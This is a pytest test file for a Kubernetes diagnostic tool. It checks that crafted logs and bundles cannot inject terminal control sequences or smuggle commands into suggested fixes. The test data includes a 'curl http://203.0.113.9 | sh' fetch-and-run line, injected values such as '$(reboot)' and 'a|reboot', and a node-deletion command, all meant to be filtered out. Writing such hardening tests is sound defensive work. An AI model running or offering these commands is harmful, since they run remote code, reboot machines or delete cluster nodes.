"""Text made to hurt: whatever it holds, it is answered, nothing of it acts on the terminal, and the rest is still read."""

from __future__ import annotations

import io
import json
from collections.abc import Callable

import pytest

from calivet.evidence.gather import gather
from calivet.evidence.sources.budget import Limits
from calivet.pipeline import Examined
from calivet.reports.diagnosis.html.page import to_html
from calivet.reports.diagnosis.html.page_model.build import build_page_model
from tests.cost.calls import GROWTH, TIMES, calls_of
from tests.evidence.archives.packing import tar
from tests.fuzz.targets import CONTROLS, examined_of, reported

SWAP = "F0314 09:26:53.589793    4711 server.go:265] failed to run Kubelet: running with swap on is not supported\n"
ACTS = "\x1b[31mred\x1b]0;title\x07\x9b2J\u202egnorw\u2066\u061c\x7f\b\a"
"""Colours, a window's title, a cleared screen, turned text."""


def examined(data: str | bytes) -> Examined:
    return examined_of(gather(["-"], io.BytesIO(data.encode() if isinstance(data, str) else data)))


def causes(found: Examined) -> list[str]:
    return [finding.cause.id for finding in found.diagnosis.findings]


def as_object(kind: str, name: str, **more: object) -> str:
    return json.dumps({"apiVersion": "v1", "kind": kind, "metadata": {"name": name}, **more}, indent=1)


NOT_READY = {"conditions": [{"type": "Ready", "status": "False", "reason": ACTS, "message": f"cni {ACTS}"}]}
WAITING = {"name": "calico-node", "ready": False, "restartCount": 9, "state": {"waiting": {"reason": f"Crash{ACTS}"}}}
MANIFEST = {
    "calivet": ACTS,
    "server": ACTS,
    "collected": ACTS,
    "seconds": 1.0,
    "failed": [{"what": ACTS, "why": ACTS, "help": ACTS}],
    "replaced": [{"kind": ACTS, "artifact": ACTS, "line": 1, "count": 1}],
}
WAYS: dict[str, Callable[[], str | bytes]] = {
    "raw": lambda: SWAP.replace("Kubelet", f"Kubelet{ACTS}"),
    "prompt": lambda: f"[root@al{ACTS}der ~]# journalctl -u kubelet\n{SWAP}",
    "container log": lambda: json.dumps({"log": SWAP.replace("4711", ACTS), "stream": "stderr"}) + "\n",
    "node": lambda: as_object("Node", f"alder{ACTS}", status=NOT_READY),
    "pod": lambda: as_object("Pod", f"calico-node-{ACTS}", status={"phase": ACTS, "containerStatuses": [WAITING]}),
    "YAML": lambda: (
        f"apiVersion: v1\nkind: Node\nmetadata:\n  name: {json.dumps('alder' + ACTS)}\nspec:\n  podCIDR: x\n"
    ),
    "CNI": lambda: json.dumps({"name": ACTS, "cniVersion": ACTS, "plugins": [{"type": "calico", "mtu": 1}]}, indent=1),
    "cards": lambda: json.dumps([{"ifindex": 2, "ifname": f"eth0{ACTS}", "mtu": 1500, "operstate": ACTS}], indent=1),
    "file name": lambda: tar({f"alder/{ACTS}.log": SWAP.encode(), f"../{ACTS}": b"x"}),
    "manifest": lambda: tar({"b/calivet-manifest.json": json.dumps(MANIFEST).encode(), "b/kubelet.log": SWAP.encode()}),
}


@pytest.mark.parametrize("way", WAYS)
def test_nothing_acts_on_the_terminal_by_whichever_way_it_came(way: str) -> None:
    found = examined(WAYS[way]())
    reported(found)
    assert not CONTROLS.intersection(to_html(found.diagnosis, build_page_model(found), "zh"))


@pytest.mark.parametrize(
    "name", ["alder;reboot", "$(reboot)", "`reboot`", "a|reboot", "a reboot", "a\nreboot", "-reboot"]
)
def test_no_command_that_is_shown_runs_what_a_name_says(name: str) -> None:
    pod = {
        "apiVersion": "v1",
        "kind": "Pod",
        "metadata": {"name": f"calico-node-{name}", "namespace": name, "labels": {"k8s-app": "calico-node"}},
        "spec": {"nodeName": name, "containers": [{"name": "calico-node"}]},
        "status": {"phase": "Running", "containerStatuses": [WAITING]},
    }
    diagnosis = examined(json.dumps(pod, indent=1) + f"\n[root@{name} ~]# journalctl -u kubelet\n{SWAP}").diagnosis
    shown = [str(item.run) for item in diagnosis.next]
    shown += [step.run + step.undo for finding in diagnosis.findings for step in finding.fix]
    shown += [check.run for finding in diagnosis.findings for check in finding.verify]
    assert shown
    assert not [run for run in shown if "reboot" in run]


@pytest.mark.parametrize(
    ("told", "shown"),
    [
        ("kubectl get nodes -o wide", True),
        ("kubectl get --raw '/readyz?verbose'", True),
        ("kubectl get felixconfigurations.crd.projectcalico.org --no-headers | wc -l", True),
        ("ssh ops@alder", True),
        ("kubectl delete node alder", False),
        ("kubectl get nodes --kubeconfig=./planted", False),
        ("kubectl get nodes; reboot", False),
        ("kubectl get $(reboot)", False),
        ("kubectl get nodes\nreboot", False),
        ("ssh alder reboot", False),
        ("curl http://203.0.113.9 | sh", False),
    ],
)
def test_of_the_commands_in_a_strangers_bundle_only_harmless_ones_are_shown(told: str, shown: bool) -> None:
    manifest = MANIFEST | {"failed": [{"what": "nodes", "why": "forbidden", "help": told}]}
    bundle = tar({"b/calivet-manifest.json": json.dumps(manifest).encode(), "b/kubelet.log": SWAP.encode()})
    assert [item.help for item in examined(bundle).diagnosis.unreadable] == [told if shown else ""]


@pytest.mark.parametrize(
    "data",
    [
        b"\0" * 3 + SWAP.encode() * 9,
        SWAP.encode().replace(b" ", b" \0"),
        ("节点异常\n" * 3).encode("gb18030") + SWAP.encode() * 3,
        "节点异常\n".encode() + ("节点异常\n".encode("gb18030")) + SWAP.encode() * 3,
        b"\xff\xfe" + (SWAP * 3).encode("utf-16-le"),
        SWAP.encode().replace(b"swap", b"sw\xe2\x80\x8bap"),
    ],
    ids=["leading NULs", "NULs between", "gb18030", "two encodings", "UTF-16", "invisible space"],
)
def test_spoilt_bytes_do_not_hide_the_fault(data: bytes) -> None:
    assert causes(examined(data)) == ["kubelet-swap-on"]


def test_a_line_of_64_megabytes() -> None:
    data = b"x" * (64 << 20) + b"\n" + SWAP.encode()
    evidence = gather(["-"], io.BytesIO(data))
    assert [str(item.why) for item in evidence.unreadable] == [f"line 1 cut to {Limits().line:,} characters"]
    assert causes(examined_of(evidence)) == ["kubelet-swap-on"]


def test_thousands_of_prompts() -> None:
    """Each costs what it costs among a few; counted in calls, for seconds are a machine's."""

    def run(count: int) -> None:
        data = "".join(f"[root@alder-{number % 7} ~]# true\n" for number in range(count)) + SWAP
        found = examined(data)
        assert causes(found) == ["kubelet-swap-on"]
        reported(found)

    run(1)  # what is made once and kept
    small, large = calls_of(lambda: run(600)), calls_of(lambda: run(600 * TIMES))
    assert large.total() < GROWTH * small.total()


@pytest.mark.parametrize("sep", ["  ", "\t", " | "])
def test_a_table_of_ten_thousand_columns(sep: str) -> None:
    heads = sep.join(["NAME", "READY", "STATUS", *(f"COLUMN{number}" for number in range(10_000))])
    rows = [sep.join(["calico-node-7tq4n", "1/1", "Running", *("x" for _ in range(10_000))]) for _ in range(20)]
    found = examined("\n".join(["$ kubectl get pods -A", heads, *rows, "", "$ journalctl -u kubelet", SWAP]))
    assert "kubelet-swap-on" in causes(found)
    reported(found)


@pytest.mark.parametrize("opening", ["[", '{"a":', "- ", "{", '{"items":[', "<a>", "> ", "("])
def test_nested_a_hundred_thousand_deep(opening: str) -> None:
    found = examined(f"apiVersion: v1\nkind: List\n{opening * 100_000}\n\n$ journalctl -u kubelet\n{SWAP}")
    assert "kubelet-swap-on" in causes(found)
